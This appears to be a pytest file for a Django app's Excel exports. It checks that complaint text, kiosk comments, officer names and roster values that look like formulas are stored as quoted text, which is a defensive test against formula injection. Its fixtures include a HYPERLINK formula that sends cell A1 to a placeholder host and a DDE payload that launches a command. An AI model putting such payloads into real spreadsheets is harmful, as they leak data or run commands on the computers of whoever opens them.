"""Every workbook the app writes keeps text that looks like a formula as text (formula or
"CSV" injection): the kiosk comment and the complaint below would run in Excel otherwise."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
import tablib
from django.urls import reverse
from openpyxl import load_workbook

from compensation import services as compensation
from compensation.models import Complaint
from evidence.pack import build_pack
from personnel.models import Officer
from personnel.resources import SafeXLSX
from satpas.selectors import unit_period
from satpas.spreadsheets import looks_like_formula
from tests.compensation.helpers import JAKARTA

pytestmark = pytest.mark.django_db

KIOSK_COMMENT = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
COMPLAINTS = [
    "=1+2",
    "+62 812 petugas tidak ramah",
    "-2+3 menit menunggu",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=2*3",
]
DAY = dt.date(2026, 11, 20)
NOVEMBER = {"periode": "2026-11-01..2026-11-27"}


def _moment(hour: int) -> dt.datetime:
    return dt.datetime(2026, 11, 20, hour, tzinfo=JAKARTA)


@pytest.fixture
def typed(unit, officer, frozen):
    frozen(2026, 11, 27, 9, 30)
    compensation.survey_submit(
        unit=unit,
        scores={f"u{i}": 3 for i in range(1, 10)},
        comment=KIOSK_COMMENT,
        channel="KIOSK",
        now=_moment(10),
    )
    for text in COMPLAINTS:
        compensation.complaint_create(
            unit=unit,
            channel=Complaint.Channel.COUNTER,
            description=text,
            received_at=_moment(11),
            user=officer,
            now=_moment(11),
        )


def _cells(book, title: str, typed_values: set[str]) -> list:
    found = [
        cell
        for row in book[title].iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str) and cell.value in typed_values
    ]
    assert found, f"no typed text found in {title}"
    return found


def _assert_text(cells) -> None:
    for cell in cells:
        assert cell.data_type == "s", f"{cell.value!r} stored as {cell.data_type}"
        assert cell.quotePrefix, f"{cell.value!r} without the quote prefix"


def test_the_kiosk_comment_and_complaints_stay_text_in_the_report_excel(
    typed, client_for, kasat
) -> None:
    client = client_for(kasat)
    skm = client.get(reverse("reports:satisfaction_excel"), NOVEMBER)
    book = load_workbook(io.BytesIO(b"".join(skm.streaming_content)))
    cells = _cells(book, "Respons", {KIOSK_COMMENT})
    assert [cell.value for cell in cells] == [KIOSK_COMMENT]
    _assert_text(cells)

    # The complaint service trims the text it is given; what it stored must come out as is.
    stored = set(Complaint.objects.values_list("description", flat=True))
    assert all(looks_like_formula(text) for text in stored)
    response = client.get(reverse("reports:complaints_excel"), NOVEMBER)
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = _cells(book, "Pengaduan", stored)
    assert sorted(cell.value for cell in cells) == sorted(stored)
    _assert_text(cells)
    # Nothing anywhere in the workbook is a formula.
    assert not any(
        cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row
    )


def test_the_evidence_pack_registers_hold_no_formula(typed, unit, tmp_path) -> None:
    target = tmp_path / "pack.zip"
    build_pack(unit_period(unit, dt.date(2026, 11, 1), dt.date(2026, 11, 27)), target)
    with zipfile.ZipFile(target) as archive:
        books = {
            name: load_workbook(io.BytesIO(archive.read(name)))
            for name in archive.namelist()
            if name.endswith(".xlsx")
        }
    stored = set(Complaint.objects.values_list("description", flat=True))
    seen = set()
    for book in books.values():
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}: {cell.value!r}"
                    if cell.value in {KIOSK_COMMENT, *stored}:
                        _assert_text([cell])
                        seen.add(cell.value)
    assert seen == {KIOSK_COMMENT, *stored}


def test_the_smk_export_keeps_an_officer_name_that_looks_like_a_formula(
    unit, kasat, client_for, frozen
) -> None:
    frozen(2026, 11, 27, 9, 30)
    Officer.objects.create(unit=unit, number="88010101", full_name="=1+1", rank="BRIPDA")
    from personnel.exports import semester_workbook

    book = load_workbook(io.BytesIO(semester_workbook(unit, 2026, 2)))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "=1+1"]
    # The officer shows up only when the semester has entries; the unit name row always does.
    unit.name = "@Satpas"
    semester = load_workbook(io.BytesIO(semester_workbook(unit, 2026, 2))).active
    cells += [cell for row in semester.iter_rows() for cell in row if cell.value == "@Satpas"]
    assert cells
    _assert_text(cells)


def test_the_roster_export_format_keeps_formulas_as_text() -> None:
    dataset = tablib.Dataset(headers=["tanggal", "nrp_nip"])
    dataset.append(["2026-11-27", "=HYPERLINK(1)"])
    dataset.append(["2026-11-27", "-5"])
    dataset.append(["2026-11-27", "\t=1+1"])
    book = load_workbook(io.BytesIO(SafeXLSX().export_data(dataset)))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    risky = [cell for cell in cells if looks_like_formula(cell.value)]
    assert [cell.value for cell in risky] == ["=HYPERLINK(1)", "-5", "\t=1+1"]
    _assert_text(risky)


def test_the_roster_admin_exports_only_the_safe_workbook(admin_user, client_for) -> None:
    from personnel.admin import DutyShiftAdmin

    assert DutyShiftAdmin.get_export_formats(None) == [SafeXLSX]  # type: ignore[arg-type]


@pytest.mark.parametrize("text", ["=A1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_trigger_is_recognised(text) -> None:
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", ["A=1", "62812", "", "Baik sekali", 5, None])
def test_plain_values_are_left_alone(text) -> None:
    assert not looks_like_formula(text)
